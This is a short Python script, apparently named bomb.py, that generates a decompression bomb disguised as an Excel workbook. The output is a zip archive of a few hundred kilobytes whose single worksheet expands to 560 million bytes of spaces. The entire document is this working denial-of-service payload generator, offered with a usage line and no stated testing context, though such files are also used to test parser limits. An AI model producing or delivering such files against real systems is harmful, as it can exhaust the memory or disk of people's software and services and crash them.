"""A workbook of a few hundred kilobytes whose only sheet unpacks to 560 million bytes.

usage: bomb.py FILE
"""

import sys
import zipfile

with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as book:
    book.writestr("[Content_Types].xml", "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>")
    with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
        for _ in range(560):
            sheet.write(b" " * 1_000_000)
